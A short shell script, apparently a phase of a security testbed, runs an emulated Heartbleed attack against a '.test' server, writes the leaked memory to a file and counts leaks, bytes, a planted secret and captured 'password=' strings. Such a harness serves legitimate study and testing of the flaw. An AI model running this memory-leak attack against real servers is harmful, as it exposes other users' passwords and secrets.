await visited
phase leak
emulate heartbleed --server "$SERVER_ADDRESS:$PORT" --name "www.$DOMAIN.test" --times "$TIMES" --length "$LENGTH" \
	--payload "$PAYLOAD" --interval "${INTERVAL}s" --patience "${PATIENCE}s" --output /root/memory >/root/said
cat /root/said
outcome leaks="$(grep -c '^leaked ' /root/said || true)"
outcome bytes="$(wc -c </root/memory)"
outcome secrets="$(grep -ao "$SECRET" /root/memory | wc -l)"
# Several visits may be in what one heartbeat leaks.
passwords=$(grep -ao "password=$PASSWORD" /root/memory | wc -l)
[ "$passwords" -le "$TIMES" ] || passwords=$TIMES
outcome passwords="$passwords"
signal over
